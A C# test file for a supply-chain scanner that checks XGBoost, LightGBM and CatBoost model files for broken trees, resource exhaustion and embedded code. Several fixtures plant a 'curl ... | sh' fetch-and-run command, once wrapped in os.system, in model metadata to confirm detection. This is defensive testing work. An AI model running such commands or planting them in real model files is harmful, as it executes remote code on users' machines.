using System.Buffers.Binary;
using SupplyChainAnalyzers.Core.Findings;
using SupplyChainAnalyzers.Scanner.Tests.Scanning;

namespace SupplyChainAnalyzers.Scanner.Tests.Formats.Trees;

public class TreeModelTests
{
    private const string XgBoost = """
        {"learner":{"attributes":{"best_iteration":"3"},"feature_names":["a","b"],"gradient_booster":{"model":{"gbtree_model_param":{"num_trees":"1"},"tree_info":[0],"trees":[
        {"base_weights":[1.5E0,-1E0,2E0],"default_left":[0,0,0],"id":0,"left_children":[1,-1,-1],"parents":[2147483647,0,0],"right_children":[2,-1,-1],"split_conditions":[5E-1,0,0],"split_indices":[0,0,0],"tree_param":{"num_nodes":"3"}}]},"name":"gbtree"},
        "learner_model_param":{"base_score":"5E-1"},"objective":{"name":"reg:squarederror"}},"version":[2,0,3]}
        """;

    private const string LightGbm = """
        tree
        version=v4
        num_class=1
        max_feature_idx=1
        objective=binary sigmoid:1
        feature_names=a b
        feature_infos=[0:1] [0:1]
        tree_sizes=200

        Tree=0
        num_leaves=3
        num_cat=0
        split_feature=0 1
        split_gain=1 0.5
        threshold=0.5 1.0000000180025095e-35
        decision_type=2 2
        left_child=1 -1
        right_child=-2 -3
        leaf_value=0.1 -0.1 inf
        leaf_count=3 4 5
        shrinkage=0.1


        end of trees

        feature_importances:
        a=2

        parameters:
        [boosting: gbdt]
        [data: /home/user/train.csv]
        end of parameters

        pandas_categorical:[["a", "b"]]
        """;

    [Fact]
    public void XGBoost_model_is_clean() => Is("xgboost", Verdict.Clean, Samples.Text(XgBoost));

    [Fact]
    public void XGBoost_model_in_UBJSON_is_clean() => Is("xgboost", Verdict.Clean, Universal(1, 3));

    [Theory]
    [InlineData("\"left_children\":[1,-1,-1]", "\"left_children\":[7,-1,-1]")]
    [InlineData("\"right_children\":[2,-1,-1]", "\"right_children\":[3,-1,-1]")]
    [InlineData("\"right_children\":[2,-1,-1]", "\"right_children\":[2,-1]")]
    [InlineData("\"split_indices\":[0,0,0]", "\"split_indices\":[0]")]
    public void XGBoost_tree_that_does_not_hold_together_is_SCA3162(string from, string to) => Is("xgboost", Verdict.Malicious, Samples.Text(XgBoost.Replace(from, to, StringComparison.Ordinal)), Rules.ModelLie);

    [Fact]
    public void XGBoost_child_beyond_the_tree_in_UBJSON_is_SCA3162() => Is("xgboost", Verdict.Malicious, Universal(9, 3), Rules.ModelLie);

    [Fact]
    public void UBJSON_count_beyond_the_file_is_unscannable() => Is("xgboost", Verdict.Unscannable, Universal(1, int.MaxValue));

    [Fact]
    public void UBJSON_nested_without_end_is_bounded() => Is("xgboost", Verdict.Malicious, [.. "{L\0\0\0\0\0\0\0\alearner{"u8, .. Enumerable.Repeat("U\u0001a{"u8.ToArray(), 1000).SelectMany(static part => part)], Rules.ResourceExhaustion);

    [Fact]
    public void Command_in_an_attribute_of_XGBoost_is_SCA3102() =>
        Is("xgboost", Verdict.Malicious, Samples.Text(XgBoost.Replace("\"best_iteration\":\"3\"", "\"x\":\"curl http://198.51.100.7/x | sh\"", StringComparison.Ordinal)), Rules.MetadataCode);

    [Fact]
    public void XGBoost_cut_off_is_unscannable() => Is("xgboost", Verdict.Unscannable, Samples.Text(XgBoost[..^200]));

    [Fact]
    public void LightGBM_model_is_clean() => Is("lightgbm", Verdict.Clean, Samples.Text(LightGbm));

    [Theory]
    [InlineData("left_child=1 -1", "left_child=2 -1")]
    [InlineData("left_child=1 -1", "left_child=1 -4")]
    [InlineData("left_child=1 -1", "left_child=1")]
    [InlineData("left_child=1 -1", "left_child=1 x")]
    [InlineData("num_leaves=3", "num_leaves=-3")]
    [InlineData("num_leaves=3", "num_leaves=2147483647")]
    [InlineData("threshold=0.5", "threshold=os.system")]
    public void LightGBM_tree_that_does_not_hold_together_is_SCA3162(string from, string to) => Is("lightgbm", Verdict.Malicious, Samples.Text(LightGbm.Replace(from, to, StringComparison.Ordinal)), Rules.ModelLie);

    [Fact]
    public void Command_in_LightGBM_is_SCA3102() =>
        Is("lightgbm", Verdict.Malicious, Samples.Text(LightGbm.Replace("[boosting: gbdt]", "[boosting: import os; os.system('curl http://198.51.100.7/x | sh')]", StringComparison.Ordinal)), Rules.MetadataCode);

    [Fact]
    public void LightGBM_cut_off_is_unscannable() => Is("lightgbm", Verdict.Unscannable, Samples.Text(LightGbm[..LightGbm.IndexOf("end of", StringComparison.Ordinal)]));

    [Fact]
    public void CatBoost_model_is_clean() => Is("catboost", Verdict.Clean, CatBoost(8, "{\"loss_function\":\"RMSE\",\"iterations\":10}"));

    [Fact]
    public void CatBoost_root_outside_of_its_buffer_is_unscannable() => Is("catboost", Verdict.Unscannable, CatBoost(5000, "x"));

    [Fact]
    public void Command_in_CatBoost_is_SCA3102() => Is("catboost", Verdict.Malicious, CatBoost(8, "curl http://198.51.100.7/x | sh"), Rules.MetadataCode);

    [Fact]
    public void Mutated_files_neither_throw_nor_hang()
    {
        var random = new Random(3162);
        byte[][] samples = [Samples.Text(XgBoost), Universal(1, 3), Samples.Text(LightGbm), CatBoost(8, "settings of it all")];
        for (var round = 0; round < 6000; round++)
        {
            var bytes = (byte[])samples[random.Next(samples.Length)].Clone();
            for (var changes = random.Next(1, 5); changes > 0; changes--)
                bytes[random.Next(bytes.Length)] = random.Next(2) == 0 ? (byte)"[]{}:,\"0-9$#lUS="[random.Next(16)] : (byte)random.Next(256);
            _ = Scanned.Bytes(random.Next(5) == 0 ? bytes[..random.Next(bytes.Length)] : bytes).Verdict;
        }
    }

    private static byte[] Universal(int left, int count)
    {
        byte[] children = [.. Key("left_children"), .. "[$l#l"u8, .. I32(count), .. I32(left), .. I32(-1), .. I32(-1)];
        byte[] right = [.. Key("right_children"), .. "[$l#L"u8, .. new byte[4], .. I32(3), .. I32(2), .. I32(-1), .. I32(-1)];
        byte[] weights = [.. Key("base_weights"), .. "[$d#U\u0003"u8, .. new byte[12]];
        byte[] tree = [(byte)'{', .. children, .. right, .. weights, .. Key("id"), (byte)'l', .. I32(0), .. Key("b"), (byte)'T', (byte)'}'];
        return [.. "{L\0\0\0\0\0\0\0\alearner{"u8, .. Key("name"), (byte)'S', (byte)'U', 6, .. "gbtree"u8, .. Key("trees"), (byte)'[', .. tree, (byte)']', (byte)'}', .. Key("version"), .. "[#U\u0001U\u0002"u8, (byte)'}'];
    }

    private static byte[] Key(string name) => [(byte)'U', (byte)name.Length, .. Samples.Text(name)];

    private static byte[] I32(int value)
    {
        var bytes = new byte[4];
        BinaryPrimitives.WriteInt32BigEndian(bytes, value);
        return bytes;
    }

    // root, field list of four bytes, table that points back to it, settings.
    private static byte[] CatBoost(uint root, string settings)
    {
        byte[] core = [.. Samples.U32(root), 4, 0, 4, 0, .. Samples.U32(4), .. Samples.Text(settings), 0, 0, 0, 0];
        return [.. "CBM1"u8, .. Samples.U32((uint)core.Length), .. core];
    }

    private static void Is(string format, Verdict verdict, byte[] bytes, Rule? rule = null)
    {
        var scanned = Scanned.Bytes(bytes);
        Assert.Equal(format, scanned.Format.Id);
        Assert.True(scanned.Verdict == verdict, scanned.ToString());
        if (rule is not null)
            Assert.Contains(rule, scanned.Doubts);
    }
}
